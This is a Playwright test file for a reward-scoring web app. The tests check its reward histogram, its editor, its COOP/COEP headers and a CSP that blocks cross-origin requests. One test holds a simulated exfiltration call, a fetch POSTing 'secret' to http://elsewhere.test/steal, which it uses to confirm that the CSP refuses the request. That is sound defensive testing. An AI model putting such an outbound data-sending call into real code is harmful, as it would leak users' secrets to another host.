import { expect, test } from '@playwright/test';
import { openStudio } from './helpers';

test('the demo session opens scored, with the reward histogram drawn', async ({ page }) => {
  await openStudio(page);
  await expect(page.getByText('JSONL · detected as')).toBeVisible();
  await expect(page.getByRole('combobox', { name: 'Format', exact: true })).toHaveValue('trl-standard');
  // A 0/1 reward: two bars, one per value.
  const chart = page.getByRole('figure', { name: 'Reward histogram' });
  await expect(chart).toHaveAttribute('data-bins', '2');
  await expect(chart.locator('.hist-bar')).toHaveCount(2);
  await expect(chart.getByRole('button')).toHaveCount(2);
  await expect(chart.getByRole('button', { name: 'reward 0, 505 rollouts' })).toBeVisible();
  await expect(chart.getByRole('button', { name: 'reward 1, 295 rollouts' })).toBeVisible();
  // The default reward is in the editor.
  await expect(page.locator('.monaco-editor')).toBeVisible();
  await expect(page.locator('.monaco-editor .view-lines')).toContainText('numberAfter');
  // 800 rows, and the page is cross-origin isolated for SharedArrayBuffer.
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
});

test('the page is served with COOP/COEP and a CSP whose connect-src is its own origin', async ({ page }) => {
  const res = await page.goto('/');
  const h = res!.headers();
  expect(h['cross-origin-opener-policy']).toBe('same-origin');
  expect(h['cross-origin-embedder-policy']).toBe('require-corp');
  expect(h['content-security-policy']).toContain("connect-src 'self'");
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(meta).toContain("connect-src 'self'");
  // A request to another origin is refused by the CSP before it leaves the page: the violation is reported,
  // and the request never reaches the network (the route below would answer it if it did).
  let reached = 0;
  await page.route('http://elsewhere.test/**', (route) => {
    reached++;
    return route.fulfill({ status: 200, body: 'ok', headers: { 'access-control-allow-origin': '*' } });
  });
  const outcome = await page.evaluate(async () => {
    const violation = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true }),
    );
    const sent = fetch('http://elsewhere.test/steal', { method: 'POST', body: 'secret' }).then(
      () => 'sent',
      () => 'blocked',
    );
    return { result: await sent, directive: await violation };
  });
  expect(outcome).toEqual({ result: 'blocked', directive: 'connect-src' });
  expect(reached).toBe(0);
});

test('nothing is fetched from another origin: Monaco, workers and demo data are all served by the app', async ({ page, baseURL }) => {
  const foreign: string[] = [];
  page.on('request', (r) => {
    const url = r.url();
    if (!url.startsWith(baseURL!) && !url.startsWith('data:') && !url.startsWith('blob:')) foreign.push(url);
  });
  await openStudio(page);
  await expect(page.locator('.monaco-editor .view-lines')).toContainText('numberAfter');
  await page.getByRole('row').filter({ hasText: 'Janet eats 3 duck eggs for breakfast and bakes 4' }).click();
  await expect(page.getByRole('complementary', { name: 'Rollout detail' })).toContainText('A: 18');
  expect(foreign).toEqual([]);
});
